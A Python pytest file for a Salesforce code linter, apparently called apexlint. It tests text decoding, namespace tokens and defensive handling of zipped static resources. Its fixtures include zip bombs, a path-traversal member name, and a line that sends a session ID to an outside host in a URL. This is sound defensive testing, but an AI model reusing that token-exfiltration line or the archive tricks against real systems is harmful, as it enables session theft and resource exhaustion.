"""Reading: bytes to text, namespace tokens, static resources and hostile zips."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from pathlib import Path

import pytest
from tree_sitter import Node

from apexlint.ir import NoticeLevel, Span
from apexlint.read.decode import ReadLimits, decode, read_file_bytes, read_source
from apexlint.read.namespace_tokens import replace_filename_tokens, replace_tokens
from apexlint.read.parsers import parse
from apexlint.read.static_resources import resource_contents, resource_members

TOKEN_CLASS = "public class %%%NAMESPACE%%%Foo { String s = '%%%NAMESPACE%%%Bar__c'; }"


def find(node: Node, node_type: str) -> list[Node]:
    found = [node] if node.type == node_type else []
    for child in node.children:
        found.extend(find(child, node_type))
    return found


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# ---- decoding ------------------------------------------------------------------------


def test_utf8_bom_is_dropped() -> None:
    text, lossy, notes = decode(b"\xef\xbb\xbfpublic class A {}", "A.cls")
    assert (text, lossy, notes) == ("public class A {}", False, [])


def test_utf16_with_bom_is_decoded() -> None:
    text, lossy, _ = decode("public class Ä {}".encode("utf-16"), "A.cls")
    assert (text, lossy) == ("public class Ä {}", False)


def test_windows_1252_falls_back_and_names_the_line() -> None:
    data = b"public class A {\n  // caf\xe9\n}\n"
    text, lossy, notes = decode(data, "A.cls")
    assert text == "public class A {\n  // café\n}\n"
    assert lossy
    assert [(n.code, n.level, n.span) for n in notes] == [
        ("undecodable-bytes", NoticeLevel.WARNING, Span(2, 9, 2, 10))
    ]
    assert "A.cls:2:" in notes[0].message


def test_binary_content_is_skipped_with_a_note() -> None:
    source, notes = read_source("logo.resource", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "")
    assert source is None
    assert [(n.code, n.level) for n in notes] == [("binary-file", NoticeLevel.NOTE)]


def test_control_characters_count_as_binary() -> None:
    source, notes = read_source("x.cls", bytes(range(1, 9)) * 100, "")
    assert source is None and notes[0].code == "binary-file"


def test_text_keeps_carriage_returns_and_lines() -> None:
    source, notes = read_source("A.cls", b"public class A {\r\n}\r\n", "")
    assert source is not None and notes == []
    assert source.text == "public class A {\r\n}\r\n"
    assert source.lines[0] == "public class A {\r"
    assert source.line_count == 2


def test_a_lone_carriage_return_ends_a_line_as_in_editors() -> None:
    # classic Mac OS line ends: a `//` comment must end at the CR, and lines count from it
    data = b"public class A {\r    // note\r    void m() {}\r}\r"
    source, notes = read_source("A.cls", data, "")
    assert source is not None and notes == []
    assert source.text == "public class A {\n    // note\n    void m() {}\n}\n"
    assert len(source.text) == len(data)  # one character for one: no offset or column moves
    assert source.parse_text == source.text and source.line_count == 4
    assert source.lines[2] == "    void m() {}"


@pytest.mark.parametrize("language", ["apex", "javascript"])
def test_a_comment_before_a_lone_carriage_return_leaves_the_rest_parsed(language: str) -> None:
    code = b"class A {\r  // note\r  void m() {}\r}\r" if language == "apex" else b"// note\rfetch(x);\r"
    source, _ = read_source("A.cls", code, "")
    assert source is not None
    tree = parse(language, source.buffer)
    assert not tree.root_node.has_error  # (no "could not be fully parsed" note)
    assert tree.root_node.end_point[0] == source.line_count


def test_a_stray_carriage_return_in_a_crlf_file_ends_its_line_and_crlf_stays() -> None:
    source, _ = read_source("A.cls", b"a\r\nb\rc\r\n", "")
    assert source is not None and source.text == "a\r\nb\nc\r\n" and source.line_count == 3


def test_undecodable_byte_is_located_on_its_line_after_lone_carriage_returns() -> None:
    _, notes = read_source("A.cls", b"a\rb\r\nc\r  \xff", "")
    assert notes[0].span is not None and (notes[0].span.start_line, notes[0].span.start_col) == (4, 3)


def test_oversized_file_is_skipped() -> None:
    source, notes = read_source("A.cls", b"x" * 11, "", ReadLimits(max_file_bytes=10))
    assert source is None and [n.code for n in notes] == ["file-too-large"]


def test_overlong_line_is_skipped() -> None:
    source, notes = read_source("min.js", b"var a=1;" * 20, "", ReadLimits(max_line_chars=100))
    assert source is None and [n.code for n in notes] == ["line-too-long"]


def test_read_file_bytes_refuses_large_and_missing_files(tmp_path: Path) -> None:
    big = tmp_path / "big.cls"
    big.write_bytes(b"x" * 100)
    assert read_file_bytes(big, "big.cls", 1000) == (b"x" * 100, [])
    data, notes = read_file_bytes(big, "big.cls", 10)
    assert data is None and [n.code for n in notes] == ["file-too-large"]
    data, notes = read_file_bytes(tmp_path / "gone.cls", "gone.cls", 10)
    assert data is None and [n.code for n in notes] == ["unreadable-path"]


# ---- namespace tokens ----------------------------------------------------------------


def test_namespace_tokens_take_cumulusci_values() -> None:
    text = (
        "%%%NAMESPACE%%%A %%%NAMESPACE_DOT%%%B %%%NAMESPACE_OR_C%%%:c "
        "%%%NAMESPACED_ORG%%%D %%%NAMESPACED_RT%%%E"
    )
    assert replace_tokens(text, "ns")[0] == "ns__A ns.B ns:c ns__D ns.E"
    assert replace_tokens(text, "")[0] == "A B c:c D E"


def test_text_without_tokens_is_returned_unchanged() -> None:
    assert replace_tokens("public class A {}", "ns") == ("public class A {}", {})


def test_filename_tokens_are_replaced() -> None:
    assert replace_filename_tokens("___NAMESPACE___Settings.page", "ns") == "ns__Settings.page"
    assert replace_filename_tokens("___NAMESPACE___Settings.page", "") == "Settings.page"


def test_tokenised_class_parses_and_maps_back_to_original_columns() -> None:
    for namespace in ("ns", ""):
        source, _ = read_source("classes/Foo.cls", TOKEN_CLASS.encode(), namespace)
        assert source is not None
        tree = parse("apex", source.buffer)
        assert not tree.root_node.has_error, namespace

        literal = find(tree.root_node, "string_literal")[0]
        span = source.span(literal.start_point, literal.end_point)
        assert source.text_of(span) == "'%%%NAMESPACE%%%Bar__c'"

        name = find(tree.root_node, "class_declaration")[0].child_by_field_name("name")
        assert name is not None
        span = source.span(name.start_point, name.end_point)
        # `ns__Foo` covers the whole token as written; with no namespace, `Foo` starts after it.
        start = 14 if namespace else 29
        assert span == Span(1, start, 1, 32)

        semicolon = [n for n in find(tree.root_node, ";")][-1]
        span = source.span(semicolon.start_point, semicolon.end_point)
        assert span.start_col == TOKEN_CLASS.rindex(";") + 1


def test_tokens_on_a_line_with_non_ascii_text_map_in_utf16_columns() -> None:
    text = "String s = '😀' + '%%%NAMESPACE%%%X__c';"
    source, _ = read_source("A.cls", text.encode(), "ns")
    assert source is not None
    tree = parse("apex", source.buffer)
    literal = find(tree.root_node, "string_literal")[-1]
    span = source.span(literal.start_point, literal.end_point)
    assert source.text_of(span) == "'%%%NAMESPACE%%%X__c'"
    assert span.start_col == 19  # 18 characters before it, the emoji being two UTF-16 code units


# ---- static resources ----------------------------------------------------------------


def test_zip_members_with_scripts_are_read_in_memory() -> None:
    data = zip_bytes(
        {
            "js/app.js": b"var s = sforce.connection.sessionId;",
            "index.html": b"<script>x()</script>",
            "img/logo.png": b"\x89PNG",
            "__MACOSX/js/._app.js": b"\x00\x05",
            "../../escape.js": b"var a;",
        }
    )
    members, notes = resource_members(data, "staticresources/lib.resource", "application/zip", ReadLimits())
    assert notes == []
    assert dict(members) == {
        "js/app.js": b"var s = sforce.connection.sessionId;",
        "index.html": b"<script>x()</script>",
        "../../escape.js": b"var a;",
    }


def test_zip_is_recognised_by_content_not_name_or_type() -> None:
    data = zip_bytes({"a.js": b"var a;"})
    members, _ = resource_members(data, "lib.resource", "text/plain", ReadLimits())
    assert members == [("a.js", b"var a;")]


def test_salesforce_metadata_kept_as_a_text_resource_is_not_sniffed_as_script() -> None:
    """`soap.sforce.com` in a metadata namespace is not `sforce.` code; markup is not script."""
    xml = b'<?xml version="1.0"?>\n<AiTestingDefinition xmlns="http://soap.sforce.com/2006/04/metadata"/>'
    assert resource_members(xml, "staticresources/Test.resource", "text/plain", ReadLimits()) == ([], [])
    bare = b"see http://soap.sforce.com/2006/04/metadata for the types"
    assert resource_members(bare, "staticresources/Notes.resource", "text/plain", ReadLimits()) == ([], [])
    script = b"var s = sforce.connection.sessionId;"
    assert resource_members(script, "staticresources/App.resource", "text/plain", ReadLimits())[0] == [("", script)]


def test_an_html_resource_is_a_page_of_scripts() -> None:
    """A `text/html` resource (metadata API), an `.html` file of a resource folder, or an untyped
    resource that is an HTML document: returned whole, its scripts lowered as a page's."""
    from apexlint.read.static_resources import is_html_resource
    page = b"<!DOCTYPE html><html><script>var s = sforce.connection.sessionId;</script></html>"
    assert resource_members(page, "src/staticresources/p.resource", "text/html", ReadLimits())[0] == [("", page)]
    assert is_html_resource("src/staticresources/p.resource", "text/html; charset=utf-8", b"<p>")
    assert is_html_resource("force-app/main/default/staticresources/app/index.html", None, b"<div>")
    assert is_html_resource("src/staticresources/p.resource", None, b"\n <!doctype HTML><html>")
    assert not is_html_resource("src/staticresources/p.resource", "text/css", page)
    assert not is_html_resource("src/staticresources/p.resource", None, b"<?xml version='1.0'?><a/>")
    # typed as JavaScript, but markup: a snippet an app injects into its pages
    snippet = b"<!--\n// Name: rule\n-->\n<script>\nvar rule = {};\n</script>\n"
    assert is_html_resource("src/staticresources/r.resource", "text/javascript", snippet)
    assert is_html_resource("src/staticresources/r.resource", "application/javascript", b"<script src='x.js'></script>")
    # an HTML-like comment opening a script is JavaScript (to its line's end), and so is a string holding a tag
    assert not is_html_resource("src/staticresources/r.resource", "text/javascript", b"<!-- hide\nvar a = 1;\n")
    assert not is_html_resource("src/staticresources/r.resource", "text/javascript", b"var t = '<script>';\n")


def test_highly_compressed_member_is_refused_as_a_zip_bomb() -> None:
    data = zip_bytes({"bomb.js": b"\x00" * 5_000_000, "ok.js": b"var a;"})
    members, notes = resource_members(data, "bomb.resource", None, ReadLimits())
    assert members == [("ok.js", b"var a;")]
    assert [n.code for n in notes] == ["zip-bomb"]


def test_member_that_expands_beyond_the_limit_is_refused() -> None:
    data = zip_bytes({"big.js": bytes(range(256)) * 100, "ok.js": b"var a;"})
    limits = ReadLimits(max_member_bytes=1000)
    members, notes = resource_members(data, "big.resource", None, limits)
    assert members == [("ok.js", b"var a;")]
    assert [n.code for n in notes] == ["zip-member-skipped"]


def test_member_whose_header_understates_its_size_is_refused() -> None:
    data = bytearray(zip_bytes({"liar.js": b"var a = 1;\n" * 50_000}))
    struct.pack_into("<I", data, 22, 100)  # local header: uncompressed size
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 100)  # central directory: uncompressed size
    members, notes = resource_members(bytes(data), "liar.resource", None, ReadLimits())
    assert members == []
    assert [n.code for n in notes] == ["zip-member-skipped"]


def test_total_expanded_size_is_capped() -> None:
    chunk = bytes(range(256)) * 40  # ~10 KB, barely compressible
    data = zip_bytes({f"m{i}.js": chunk for i in range(5)})
    limits = ReadLimits(max_resource_bytes=25_000)
    members, notes = resource_members(data, "many.resource", None, limits)
    assert len(members) == 2
    assert {n.code for n in notes} == {"zip-bomb"}


def test_member_count_is_capped() -> None:
    data = zip_bytes({f"m{i}.js": b"var a;" for i in range(10)})
    members, notes = resource_members(data, "many.resource", None, ReadLimits(max_members=3))
    assert len(members) == 3
    assert [n.code for n in notes] == ["zip-too-many-members"]


def test_encrypted_member_is_skipped() -> None:
    data = bytearray(zip_bytes({"secret.js": b"var a;"}, zipfile.ZIP_STORED))
    struct.pack_into("<H", data, 6, 1)  # local header: general purpose flag, encrypted
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 8, 1)
    members, notes = resource_members(bytes(data), "enc.resource", None, ReadLimits())
    assert members == []
    assert [n.code for n in notes] == ["zip-member-skipped"]
    assert "encrypted" in notes[0].message


def test_corrupt_zip_is_reported_not_raised() -> None:
    data = zip_bytes({"a.js": b"var a = 1;" * 100})
    members, notes = resource_members(data[: len(data) // 2], "bad.resource", None, ReadLimits())
    assert members == []
    assert [n.code for n in notes] == ["corrupt-zip"]


def test_corrupt_member_data_is_reported_not_raised() -> None:
    data = bytearray(zip_bytes({"a.js": random.Random(7).randbytes(4000)}))
    data[1000:1020] = b"\xff" * 20  # inside the compressed stream
    members, notes = resource_members(bytes(data), "bad.resource", None, ReadLimits())
    assert members == []
    assert [n.code for n in notes] == ["zip-member-skipped"]


def test_a_member_with_an_empty_name_is_passed_over_not_raised() -> None:
    """A damaged central directory (found by the zip fuzz test) can leave a member nameless."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(""), b"var a = 1;")
        archive.writestr("js/app.js", b"var sid = sforce.connection.sessionId;")
    members, notes = resource_members(buffer.getvalue(), "r.resource", "application/zip", ReadLimits())
    assert [name for name, _ in members] == ["js/app.js"]
    assert notes == []


def test_plain_javascript_resource_is_one_unnamed_member() -> None:
    script = b"document.title = 'x';"
    assert resource_members(script, "app.resource", "application/javascript", ReadLimits()) == (
        [("", script)],
        [],
    )
    assert resource_members(script, "app.resource", None, ReadLimits()) == ([("", script)], [])


def test_other_resources_have_no_script() -> None:
    assert resource_members(b"body { color: red; }", "a.resource", "text/css", ReadLimits()) == ([], [])
    assert resource_members(b"\x89PNG\x00\x00", "b.resource", None, ReadLimits()) == ([], [])
    assert resource_members(b"just some words", "c.resource", "text/plain", ReadLimits()) == ([], [])


def test_a_text_resource_is_searched_for_tokens_whatever_its_type_says_but_binary_media() -> None:
    """In a metadata-API tree every resource is `Name.resource`: JSON, CSV, XML and text are text to
    search for tokens; images, fonts, PDF are not, and a type that says nothing leaves it to the bytes."""
    text = b'{"accessToken": "x"}'
    for kind in ("application/json", "text/plain", "text/csv", "application/xml", "text/xml", "text/css",
                 "image/svg+xml", "application/octet-stream", None, "application/x-unheard-of"):
        contents = resource_contents(text, "src/staticresources/R.resource", kind, ReadLimits())
        assert (contents.scripts, contents.texts, contents.notes) == ([], [("", text)], []), kind
    for kind in ("image/png", "image/gif; charset=binary", "font/woff2", "application/font-woff", "application/pdf",
                 "audio/mpeg", "video/mp4", "application/x-shockwave-flash"):
        assert resource_contents(text, "R.resource", kind, ReadLimits()).texts == [], kind
    script = b"var s = sforce.connection.sessionId;"
    assert resource_contents(script, "A.resource", "application/javascript", ReadLimits()).texts == []


def test_a_zip_s_text_members_are_read_after_its_scripts_and_its_binary_members_not_at_all() -> None:
    data = zip_bytes({
        "config/app.json": b'{"t": 1}', "data/rows.csv": b"a,b", "js/app.js": b"var a;", "index.html": b"<p>",
        "img/logo.png": b"\x89PNG", "fonts/a.woff2": b"wOF2", "__MACOSX/config/._app.json": b"\x00\x05",
        "docs/": b"",
    })
    contents = resource_contents(data, "staticresources/kit.resource", "application/zip", ReadLimits())
    assert contents.notes == []
    assert dict(contents.scripts) == {"js/app.js": b"var a;", "index.html": b"<p>"}
    assert dict(contents.texts) == {"config/app.json": b'{"t": 1}', "data/rows.csv": b"a,b"}
    assert resource_members(data, "kit.resource", "application/zip", ReadLimits()) == (contents.scripts, [])


def test_a_zip_s_text_members_share_its_limits_and_never_cost_a_script_its_reading() -> None:
    chunk = bytes(range(256)) * 40  # ~10 KB, barely compressible
    data = zip_bytes({"a.json": chunk, "b.json": chunk, "m.js": chunk, "n.js": chunk})
    contents = resource_contents(data, "many.resource", None, ReadLimits(max_resource_bytes=35_000))
    assert [name for name, _ in contents.scripts] == ["m.js", "n.js"]  # listed last, read first
    assert [name for name, _ in contents.texts] == ["a.json"]
    assert {n.code for n in contents.notes} == {"zip-bomb"}
    bomb = zip_bytes({"bomb.json": b"{" * 5_000_000, "ok.txt": b"ok"})
    contents = resource_contents(bomb, "bomb.resource", None, ReadLimits())
    assert contents.texts == [("ok.txt", b"ok")] and [n.code for n in contents.notes] == ["zip-bomb"]


SAMPLES = {"apex": b"public class A { void m() { String s = UserInfo.getSessionId(); } }",
           "html": b"<apex:page><script>var s = '{!$Api.Session_ID}';</script></apex:page>",
           "javascript": b"fetch(url, {headers: {Authorization: 'Bearer ' + sessionId}});",
           "xml": b"<?xml version='1.0'?><NamedCredential><endpoint>https://x</endpoint></NamedCredential>"}


@pytest.mark.parametrize("language", sorted(SAMPLES))
def test_each_grammar_is_the_language_packs_own(language: str) -> None:
    """apexlint loads the pack's compiled grammar modules without the pack's `__init__`
    (read/parsers.py): the trees must be the ones `get_language` gives, and if the modules
    cannot be found that way, the pack's own lookup is used."""
    from tree_sitter import Parser
    from tree_sitter_language_pack import get_language

    from apexlint.read import parsers

    theirs = Parser(get_language(language)).parse(SAMPLES[language]).root_node
    ours = parsers.new_parser(language).parse(SAMPLES[language]).root_node  # type: ignore[arg-type]
    assert str(ours) == str(theirs) and not ours.has_error
    assert parsers.grammar(language).name == get_language(language).name  # type: ignore[arg-type]


def test_a_grammar_module_not_found_falls_back_to_the_packs_lookup(monkeypatch: pytest.MonkeyPatch) -> None:
    from apexlint.read import parsers

    def missing(language: str) -> object:
        raise ImportError(language)

    monkeypatch.setattr(parsers, "_binding", missing)
    parsers.grammar.cache_clear()
    try:
        tree = parsers.Parser(parsers.grammar("apex")).parse(SAMPLES["apex"])
        assert tree.root_node.type == "parser_output" and not tree.root_node.has_error
    finally:
        parsers.grammar.cache_clear()


def test_a_skipped_minified_file_says_which_session_reads_it_holds() -> None:
    text = b"var s=sforce.connection.sessionId;window.open('https://x.example.com?sid='+s);" * 3
    source, (note,) = read_source("grid.js", text, "", ReadLimits(max_line_chars=100))
    assert source is None and note.code == "line-too-long"
    assert note.message.endswith("it mentions sforce.connection.sessionId (3): review those uses by hand")
    _, (quiet,) = read_source("lib.js", b"var a=1;" * 20, "", ReadLimits(max_line_chars=100))
    assert "mentions" not in quiet.message
